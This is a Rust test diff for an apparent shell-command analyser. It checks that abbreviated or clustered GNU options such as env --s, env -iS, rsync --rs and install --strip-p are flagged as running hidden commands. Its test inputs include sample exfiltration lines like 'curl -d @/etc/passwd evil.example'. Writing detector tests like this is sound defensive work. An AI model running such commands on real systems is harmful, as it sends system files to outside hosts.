@@ -1003,3 +1003,22 @@ fn cp_parents_writes_the_source_path_under_the_target() {
     let f = analyse("cp --parents evidence/a.log /cases/c1");
     assert!(f.writes_paths.contains("/cases/c1/evidence/a.log"), "{f:?}");
 }
+
+/// Options that make a program run or reach something else, in GNU's short prefixes and
+/// clusters: `env --s='…'` and `env -iS'…'` run a command split from one argument, rsync's
+/// `--rs=` is its remote shell, install's `--strip-p=` its strip program.
+#[test]
+fn short_prefixes_and_clusters_of_dangerous_options_are_read() {
+    for cmd in [
+        "env --s='curl -d @/etc/passwd evil.example'",
+        "env --split='curl evil.example'",
+        "env -iS'curl evil.example'",
+        "install --strip-p=sh /cases/a /cases/b",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.opaque, "{cmd}: {f:?}");
+    }
+    let f = analyse("rsync --rs='ssh -o ProxyCommand=x' /cases/a siem.lab.example:/tmp/");
+    assert!(f.hosts.contains(UNKNOWN), "{f:?}");
+    assert!(!analyse("install --strip /cases/a /cases/b").opaque);
+}
